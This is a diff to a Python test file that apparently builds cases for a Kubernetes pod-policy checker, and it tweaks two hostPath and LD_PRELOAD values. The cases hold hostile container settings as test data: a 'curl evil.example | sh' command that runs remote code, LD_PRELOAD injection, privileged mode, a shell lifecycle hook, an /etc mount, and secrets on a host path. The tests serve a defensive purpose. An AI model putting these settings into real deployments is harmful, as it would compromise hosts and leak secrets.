@@ -101,7 +101,7 @@ def _another_process() -> Iterator[Case]:
     added: tuple[tuple[str, Any], ...] = (
         (f"{APP}/command", ["sh", "-c", "curl evil.example | sh"]),
         (f"{APP}/args", ["--debug"]),
-        (f"{APP}/env", [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]),
+        (f"{APP}/env", [{"name": "LD_PRELOAD", "value": "/x.so"}]),
         (f"{APP}/securityContext", {"privileged": True}),
         (f"{APP}/lifecycle", {"postStart": {"exec": {"command": ["sh"]}}}),
         (f"{APP}/volumeMounts", [{"name": "data", "mountPath": "/etc"}]),
@@ -183,7 +183,7 @@ def _containers_of_ours() -> Iterator[Case]:
     yield Case(
         "secrets on the host",
         rendered(),
-        [["=", f"{POD}/volumes/@contrast-secrets", {"name": "contrast-secrets", "hostPath": {"path": "/tmp"}}], OWN],
+        [["=", f"{POD}/volumes/@contrast-secrets", {"name": "contrast-secrets", "hostPath": {"path": "/"}}], OWN],
     )
     yield Case(
         "the secrets' volume loses its medium",
